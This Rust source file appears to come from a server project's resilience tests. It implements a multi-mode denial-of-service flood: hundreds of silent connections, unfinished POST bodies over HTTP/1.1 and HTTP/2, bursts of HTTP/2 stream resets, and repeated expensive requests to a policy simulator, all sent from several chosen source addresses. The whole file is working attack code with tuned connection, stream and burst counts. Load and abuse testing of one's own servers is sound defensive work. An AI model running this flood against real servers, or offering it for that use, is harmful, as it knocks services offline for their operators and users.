//! The flood.

use std::net::Ipv4Addr;
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::task::{Context, Poll};
use std::time::{Duration, Instant};

use anyhow::Result;
use bytes::Bytes;
use http_body_util::Empty;
use hyper::body::{Body, Frame};
use hyper::client::conn::http2::{SendRequest, handshake};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout_at};

use super::super::exchange::connect_from;
use super::super::{clock, subject};

/// What was sent.
#[derive(Debug, Default)]
pub(super) struct Counts {
    bodies: AtomicU64,
    connections: AtomicU64,
    resets: AtomicU64,
    simulations: AtomicU64,
}

impl Counts {
    /// In the order of the table.
    pub(super) fn all(&self) -> [u64; 4] {
        [&self.bodies, &self.connections, &self.resets, &self.simulations]
            .map(|count| count.load(Ordering::Relaxed))
    }
}

fn count(counter: &AtomicU64) {
    counter.fetch_add(1, Ordering::Relaxed);
}

/// Floods a server until `end`; from nowhere, it does nothing.
pub(super) fn attack(
    address: &str,
    sources: &[Ipv4Addr],
    end: Instant,
    counts: &Arc<Counts>,
) -> Result<()> {
    let mut runtime = tokio::runtime::Builder::new_multi_thread();
    let runtime = runtime.worker_threads(WORKERS).enable_all().build()?;
    let simulation = subject::simulation(address)?;
    runtime.block_on(async {
        let mut tasks = JoinSet::new();
        let attacker = |at: usize| {
            let source = sources.get(at % sources.len().max(1)).copied()?;
            let (address, counts) = (address.to_owned(), Arc::clone(counts));
            Some(Attacker { source, address, end, counts })
        };
        for at in 0..SILENT {
            tasks.extend_with(attacker(at), Attacker::keep_silent);
        }
        for at in 0..PLAIN_BODIES {
            tasks.extend_with(attacker(at), Attacker::send_bodies);
        }
        for at in 0..STREAMED_BODIES {
            tasks.extend_with(attacker(at), Attacker::stream_bodies);
        }
        for at in 0..RESETTING {
            tasks.extend_with(attacker(at), Attacker::reset_streams);
        }
        for at in 0..SIMULATING {
            let simulation = simulation.clone();
            tasks.extend_with(attacker(at), move |attacker| attacker.simulate(simulation));
        }
        // The end is theirs, but nobody waits for an answer that does not come.
        let all = async { while tasks.join_next().await.is_some() {} };
        let _ = timeout_at((end + GRACE).into(), all).await;
    });
    runtime.shutdown_background();
    Ok(())
}

trait ExtendWith {
    fn extend_with<F>(&mut self, attacker: Option<Attacker>, attack: impl FnOnce(Attacker) -> F)
    where
        F: Future<Output = ()> + Send + 'static;
}

impl ExtendWith for JoinSet<()> {
    fn extend_with<F>(&mut self, attacker: Option<Attacker>, attack: impl FnOnce(Attacker) -> F)
    where
        F: Future<Output = ()> + Send + 'static,
    {
        if let Some(attacker) = attacker {
            self.spawn(attack(attacker));
        }
    }
}

/// One of them. Whatever goes wrong is the server's way to defend itself: the attacker begins again.
struct Attacker {
    source: Ipv4Addr,
    address: String,
    end: Instant,
    counts: Arc<Counts>,
}

impl Attacker {
    /// Opens a connection and says nothing.
    async fn keep_silent(self) {
        while let Some(mut stream) = self.connect().await {
            count(&self.counts.connections);
            let closed = async { while stream.read(&mut [0; 64]).await.is_ok_and(|n| n > 0) {} };
            let _ = timeout_at(self.end.into(), closed).await;
            sleep(PAUSE).await;
        }
    }

    /// Sends all of a body but the end.
    async fn send_bodies(self) {
        let head = format!(
            "POST / HTTP/1.1\r\nhost: {}\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: {BODY}\r\n\r\n",
            self.address
        );
        while let Some(mut stream) = self.connect().await {
            count(&self.counts.bodies);
            let send = async {
                stream.write_all(head.as_bytes()).await?;
                for _ in 1..BODY / CHUNK.len() {
                    stream.write_all(CHUNK).await?;
                }
                stream.read(&mut [0; 64]).await
            };
            let _ = timeout_at(self.until(HELD).into(), send).await;
            sleep(PAUSE).await;
        }
    }

    /// The same over HTTP/2, with as many streams as the server allows.
    async fn stream_bodies(self) {
        while let Some(stream) = self.connect().await {
            let held = async {
                let mut client = http2(stream).await?;
                for _ in 0..STREAMS {
                    client.ready().await?;
                    let request = self.post(Endless { left: BODY / CHUNK.len() - 1 })?;
                    count(&self.counts.bodies);
                    tokio::spawn(client.send_request(request));
                }
                sleep(HELD).await;
                anyhow::Ok(())
            };
            let _ = timeout_at(self.until(HELD).into(), held).await;
            sleep(PAUSE).await;
        }
    }

    /// Opens streams and resets them at once.
    async fn reset_streams(self) {
        while let Some(stream) = self.connect().await {
            let resets = async {
                let mut client = http2(stream).await?;
                loop {
                    for _ in 0..BURST {
                        client.ready().await?;
                        let request = self.post(Empty::<Bytes>::new())?;
                        // Polled once, so that it is sent; dropped, so that it is reset.
                        let sent = client.send_request(request);
                        let _ = tokio::time::timeout(Duration::ZERO, sent).await;
                        count(&self.counts.resets);
                    }
                    sleep(PAUSE).await;
                }
                #[expect(unreachable_code, reason = "it tells the type of what is given up")]
                anyhow::Ok(())
            };
            let _ = timeout_at(self.end.into(), resets).await;
            sleep(PAUSE).await;
        }
    }

    /// Has the policy simulator do as much as one request can ask for.
    async fn simulate(self, request: Bytes) {
        while let Some(mut stream) = self.connect().await {
            let answers = async {
                stream.write_all(&request).await?;
                count(&self.counts.simulations);
                let mut answer = vec![0; 64 << 10];
                // Read to the end, as whoever wants the server to write it does.
                while stream.read(&mut answer).await? > 0 {}
                std::io::Result::Ok(())
            };
            let _ = timeout_at(self.end.into(), answers).await;
            sleep(PAUSE).await;
        }
    }

    /// A connection, as soon as there is one; `None` when it is over.
    async fn connect(&self) -> Option<TcpStream> {
        while clock::instant() < self.end {
            let connecting = connect_from(self.source, &self.address);
            if let Ok(Ok(stream)) = timeout_at(self.end.into(), connecting).await {
                return Some(stream);
            }
            sleep(PAUSE).await;
        }
        None
    }

    fn until(&self, held: Duration) -> Instant {
        self.end.min(clock::instant() + held)
    }

    fn post<B>(&self, body: B) -> Result<hyper::Request<B>> {
        let post = hyper::Request::post(format!("http://{}/", self.address));
        Ok(post.header("content-type", "application/x-www-form-urlencoded").body(body)?)
    }
}

async fn http2<B>(stream: TcpStream) -> Result<SendRequest<B>>
where
    B: Body<Data = Bytes> + Send + Unpin + 'static,
    B::Error: Into<Box<dyn std::error::Error + Send + Sync>>,
{
    let (client, connection) = handshake(TokioExecutor::new(), TokioIo::new(stream)).await?;
    tokio::spawn(connection);
    Ok(client)
}

/// A body that stops before its end.
struct Endless {
    left: usize,
}

impl Body for Endless {
    type Data = Bytes;
    type Error = std::convert::Infallible;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        _: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Self::Error>>> {
        if self.left == 0 {
            return Poll::Pending;
        }
        self.left -= 1;
        Poll::Ready(Some(Ok(Frame::data(Bytes::from_static(CHUNK)))))
    }
}

/// So that those who send much do not keep the others from sending.
const WORKERS: usize = 4;
/// More than the server has room for, and fewer than the files that a process may have open by default.
const SILENT: usize = 700;
const PLAIN_BODIES: usize = 64;
const STREAMED_BODIES: usize = 2;
const STREAMS: usize = 100;
const RESETTING: usize = 2;
const SIMULATING: usize = 8;
/// Below what daypass reads of a body.
const BODY: usize = 9 << 20;
const CHUNK: &[u8] = &[b'x'; 64 << 10];
/// How long a body without an end is held.
const HELD: Duration = Duration::from_secs(10);
/// How many streams are reset one after the other.
const BURST: usize = 100;
const PAUSE: Duration = Duration::from_millis(20);
const GRACE: Duration = Duration::from_secs(2);
